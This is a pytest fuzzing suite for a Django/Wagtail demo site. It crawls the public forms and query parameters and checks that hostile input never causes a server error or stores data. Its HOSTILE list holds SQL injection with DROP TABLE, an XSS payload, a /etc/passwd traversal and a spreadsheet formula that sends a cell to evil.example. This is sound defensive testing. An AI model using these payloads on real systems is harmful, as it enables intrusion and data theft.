"""Fuzzing the demo site with a table of hostile values: every form a visitor can reach by
following links from the home pages, every field of it, and every query parameter those forms
send. Whatever arrives, the answer is never a server error, and a refused submission stores
nothing at all (no record, no file, no e-mail).

The forms are found by crawling, so a form added later is fuzzed without touching this file."""

from html.parser import HTMLParser
from urllib.parse import urldefrag, urlencode, urlsplit

import pytest
from django.apps import apps
from django.core.cache import cache

HOSTILE = [
    "",
    " \t\n",
    "\x01\x07\x1b[31m\x7f",  # control characters (a NUL is refused at the door: 400)
    "\u202eгэпп\u200b\ufeff",  # right-to-left override, zero-width space, BOM
    "𝕿𝖊𝖘𝖙 🔥 ＴＥＳＴ",  # astral plane and full-width letters
    "' OR '1'='1'; DROP TABLE reception_appeal; --",
    '<script>alert(1)</script><img src=x onerror="alert(2)">',
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "../../../../etc/passwd",
    "%00%ff%fe",
    "-1",
    "9223372036854775808",
    "1e309",
    "NaN",
    "ё" * 100_000,  # far beyond any field's limit
]
CRAWL_LIMIT = 150
# What a customer would type, by field name, so that a hostile value in one field meets an
# otherwise valid form (a demo account and meter for the readings).
VALID = {
    "name": "Петрова Анна Сергеевна", "email": "anna@example.ru", "phone": "+7 912 345-67-89",
    "postal_address": "г. Москва, ул. Ленина, 1", "account_number": "1000000002",
    "meter_number": "87654321", "reading_t1": "4400", "message": "Прошу проверить счёт.",
    "number": "ВП-2026-000001", "contact": "anna@example.ru", "q": "тариф", "consent": "on",
}  # fmt: skip
# Forms linked only with a query (which the crawl does not follow): the street's alerts.
LINKED_WITH_A_QUERY = ["/clients/outages/subscribe/"]
NOT_PAGES = ("/admin", "/documents", "/media", "/static")
UNTOUCHED = {"csrfmiddlewaretoken", "website"}  # the honeypot stays empty: a robot is sent away
# Tables a public form writes to: after a refused submission none of them may have grown.
STORED = ["reception.Appeal", "reception.AppealAttachment", "reception.HomeVisitRequest",
          "readings.Submission", "addresses.Subscription", "core.OutgoingEmail",
          "wagtailforms.FormSubmission"]  # fmt: skip


class Forms(HTMLParser):
    """The links and the forms (action, method, fields with a default value) of one page."""

    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.forms: list[dict] = []
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list) -> None:
        attr = dict(attrs)
        if tag == "a" and attr.get("href"):
            self.links.append(attr["href"])
        elif tag == "form":
            method = (attr.get("method") or "get").lower()
            self.forms.append({"action": attr.get("action") or "", "method": method, "fields": {}})
        elif tag == "option" and self._select and attr.get("value"):
            self.forms[-1]["fields"].setdefault(self._select, attr["value"])
        elif not self.forms or not attr.get("name"):
            return
        elif tag == "input":
            kind = attr.get("type", "text")
            fields = self.forms[-1]["fields"]
            if kind in ("checkbox", "radio"):
                fields.setdefault(attr["name"], attr.get("value", "on"))
            elif kind not in ("submit", "button", "reset", "image", "file"):
                fields[attr["name"]] = attr.get("value", "")
        elif tag == "textarea":
            self.forms[-1]["fields"][attr["name"]] = ""
        elif tag == "select":
            self._select = attr["name"]

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None


def crawl(client) -> list[tuple[str, dict]]:
    """(page URL, form) for every distinct form reached from / and /en/ (and the forms only
    linked with a query)."""
    queue, seen, found, kinds = ["/", "/en/", *LINKED_WITH_A_QUERY], set(), [], set()
    while queue and len(seen) < CRAWL_LIMIT:
        url = queue.pop(0)
        if url in seen:
            continue
        seen.add(url)
        response = client.get(url)
        if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
            continue
        parser = Forms()
        parser.feed(response.content.decode())
        for form in parser.forms:
            kind = (form["action"] or url, form["method"], tuple(sorted(form["fields"])))
            if form["fields"] and kind not in kinds:
                kinds.add(kind)
                found.append((url, form))
        for href in parser.links:
            parts = urlsplit(urldefrag(href).url)
            internal = not parts.netloc and parts.path.startswith("/") and not parts.query
            if internal and not parts.path.startswith(NOT_PAGES):
                queue.append(parts.path)
    return found


def stored_rows() -> dict[str, int]:
    return {label: apps.get_model(label).objects.count() for label in STORED}


@pytest.fixture(scope="module")
def public_forms(django_db_setup, django_db_blocker):
    from django.test import Client

    with django_db_blocker.unblock():
        return crawl(Client())


@pytest.mark.django_db
def test_the_crawl_finds_the_public_forms(public_forms):
    """Guards the fuzzing below: it reaches every kind of form the demo has."""
    targets = {form["action"] or url for url, form in public_forms}
    expected_forms = ["/reception/", "/reception/home-visit/", "/reception/status/", "/search/"]
    for expected in [*expected_forms, *LINKED_WITH_A_QUERY]:
        assert any(target.endswith(expected) for target in targets), (expected, targets)
    assert any("meter" in target or "readings" in target for target in targets), targets


def baseline(form: dict) -> dict:
    return {name: VALID.get(name, default) for name, default in form["fields"].items()}


@pytest.mark.django_db
def test_the_fuzzed_forms_are_otherwise_valid(client, public_forms):
    """Guards the fuzzing below: each hostile value meets a form that would be accepted, so
    both the refusal and the acceptance paths are exercised."""
    accepted = set()
    for url, form in public_forms:
        if form["method"] == "post":
            target = form["action"] or url
            if client.post(target, baseline(form)).status_code == 302:
                accepted.add(target)
    assert {"/reception/", "/reception/home-visit/"} <= accepted, accepted
    assert any("meter" in target for target in accepted), accepted


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_values_in_every_field_never_cause_a_server_error(client, public_forms, value):
    """Refused: nothing stored. Accepted (the value was harmless, or cleaned): the page the
    visitor is sent to renders too."""
    for url, form in public_forms:
        target = form["action"] or url
        valid = baseline(form)
        for name in set(form["fields"]) - UNTOUCHED:
            cache.clear()  # the rate limits would soon answer 429 to everything
            data = {**valid, name: value}
            before = stored_rows()
            if form["method"] == "post":
                response = client.post(target, data)
            else:
                response = client.get(f"{target}?{urlencode(data)}")
            assert response.status_code < 500, (target, name, response.status_code)
            if response.status_code == 302:
                assert client.get(response["Location"]).status_code < 500, (target, name)
            else:
                assert stored_rows() == before, (target, name)


@pytest.mark.django_db
@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_values_in_every_query_parameter_never_cause_a_server_error(client, value):
    queries = [
        "/search/?q={}", "/search/?q=тариф&page={}", "/search/suggest/?q={}",
        "/en/search/?q={}", "/clients/tariffs/?region={}&category={}",
        "/api/v2/pages/?search={}", "/api/v2/pages/?type={}", "/api/v2/pages/?fields={}",
        "/api/v2/pages/?order={}", "/api/v2/pages/?limit={}", "/api/v2/pages/?child_of={}",
        "/api/v2/pages/?locale={}", "/api/v2/documents/?search={}", "/?a11y={}",
        "/sitemap.xml?p={}",
    ]  # fmt: skip
    for query in queries:
        url = query.replace("{}", urlencode({"": value})[1:])
        response = client.get(url)
        assert response.status_code < 500, (url[:120], response.status_code)


@pytest.mark.django_db
def test_the_api_searches_the_words_of_a_query_with_quotes_and_brackets(client):
    def found(query: str) -> list[int]:
        response = client.get("/api/v2/pages/", {"search": query})
        assert response.status_code == 200
        return [item["id"] for item in response.json()["items"]]

    assert found("тарифы") and found('«тарифы» ("') == found("тарифы")
    assert found("?!") == []
